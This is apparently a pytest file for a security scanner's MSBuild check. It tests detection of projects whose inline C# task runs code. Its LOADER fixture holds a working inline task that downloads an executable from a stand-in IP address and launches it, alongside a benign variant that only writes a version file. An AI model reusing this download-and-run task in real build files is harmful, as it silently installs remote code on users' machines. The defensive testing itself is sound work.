"""MSBuild projects that run code of their own (``_scan._msbuild_projects``, blind18: tune
b18-np-msbuild-inline-task, an inline task MSBuild compiles and runs, started by the
package's code)."""

from __future__ import annotations

from pathlib import Path

import pytest

from caplet._scan._msbuild_projects import msbuild_payload
from tests._scan.prefilterkit import tree_both_ways, tree_danger

LOADER = """<Project xmlns="http://schemas.microsoft.com/developer/msbuild/2003">
  <Target Name="Build"><Fetch /></Target>
  <UsingTask TaskName="Fetch" TaskFactory="CodeTaskFactory" AssemblyFile="Tasks.v4.0.dll">
    <Task><Code Type="Class" Language="cs"><![CDATA[
public class Fetch : Microsoft.Build.Utilities.Task {
  public override bool Execute() {
    new System.Net.WebClient().DownloadFile("http://192.0.2.8/a.exe", "a.exe");
    System.Diagnostics.Process.Start("a.exe");
    return true;
  }
}]]></Code></Task>
  </UsingTask>
</Project>
"""
#: An inline task that only writes a version file: MSBuild's documented use.
BUILDER = LOADER.replace(
    'new System.Net.WebClient().DownloadFile("http://192.0.2.8/a.exe", "a.exe");\n', ""
).replace('System.Diagnostics.Process.Start("a.exe");', 'System.IO.File.WriteAllText("v", "1");')

#: A module of the package with a function that builds a project it ships.
STARTER = (
    "import os, subprocess\n"
    "def build():\n"
    "    here = os.path.dirname(__file__)\n"
    "    subprocess.run(['MSBuild.exe', '/nologo', os.path.join(here, 'tasks.csproj')])\n"
)


def test_an_inline_task_that_downloads_and_starts_a_program_is_a_payload() -> None:
    found = msbuild_payload(LOADER)
    assert found is not None
    assert "DownloadFile" in found[1]


@pytest.mark.parametrize("text", [BUILDER, LOADER.replace("CodeTaskFactory", "Other")])
def test_an_inline_task_that_only_builds_or_no_inline_task_is_none(text: str) -> None:
    assert msbuild_payload(text) is None


def _package(root: Path, project: str) -> None:
    (root / "pkg").mkdir()
    (root / "pkg" / "__init__.py").write_text("")
    (root / "pkg" / "tools.py").write_text(STARTER)
    (root / "pkg" / "tasks.csproj").write_text(project)


def test_a_shipped_loader_project_the_package_starts_is_download_and_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _package(tmp_path, LOADER)
    filtered, whole = tree_both_ways(tmp_path, monkeypatch)
    assert ("CPL-THR-015", "pkg/tasks.csproj", 7) in whole
    assert filtered == whole


def test_a_shipped_builder_project_the_package_starts_stays_clean(tmp_path: Path) -> None:
    _package(tmp_path, BUILDER)
    assert not tree_danger(tmp_path)
